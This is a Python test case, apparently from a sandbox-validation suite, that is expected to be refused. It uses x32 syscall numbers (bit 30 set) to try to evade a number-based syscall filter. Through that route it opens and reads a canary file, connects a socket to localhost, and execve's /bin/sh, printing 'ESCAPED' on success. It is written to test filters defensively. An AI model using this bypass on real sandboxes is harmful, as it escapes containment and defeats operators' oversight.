# attack: x86_64 kernels know a third set of numbers, x32: the same calls with bit 30 set, which a filter by number may not have
# expect: validator
# validator: refused
import ctypes
import os

CANARY = b"CANARY" + b"_7f3a"
X32 = 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def call(number, *arguments):
    ctypes.set_errno(0)
    converted = [ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    answer = libc.syscall(ctypes.c_long(number), *converted)
    return answer, os.strerror(ctypes.get_errno())


path = ctypes.create_string_buffer(b"@CANARY_FILE@")
buffer = ctypes.create_string_buffer(200)
# open and read by their numbers, and read once more by x32's own number for readv.
for name, number, arguments in (("open", X32 | 2, (path, 0, 0)), ("openat", X32 | 257, (-100, path, 0, 0))):
    fd, why = call(number, *arguments)
    print("x32", name, fd, why)
    if fd >= 0:
        for reader in (0, X32 | 0):
            count, why = call(reader, fd, buffer, 200)
            if count > 0 and CANARY in buffer.raw:
                print(f"ESCAPED: x32 {name} read {buffer.raw[:count]!r}", flush=True)

# A socket and a process by the same bit; numbers 512 and up are x32's own versions of calls with structures.
fd, why = call(X32 | 41, 2, 1, 0)
print("x32 socket", fd, why)
if fd >= 0:
    address = b"\x02\x00" + int("@TCP_PORT@").to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    if call(X32 | 42, fd, ctypes.create_string_buffer(address), 16)[0] == 0:
        print("ESCAPED: x32 connected", flush=True)
arguments = (ctypes.c_char_p * 4)(b"sh", b"-c", b"echo ESC''APED: x32 started a shell", None)
answer = call(X32 | 520, ctypes.create_string_buffer(b"/bin/sh"), ctypes.cast(arguments, ctypes.c_void_p), 0)
print("x32 execve", *answer)
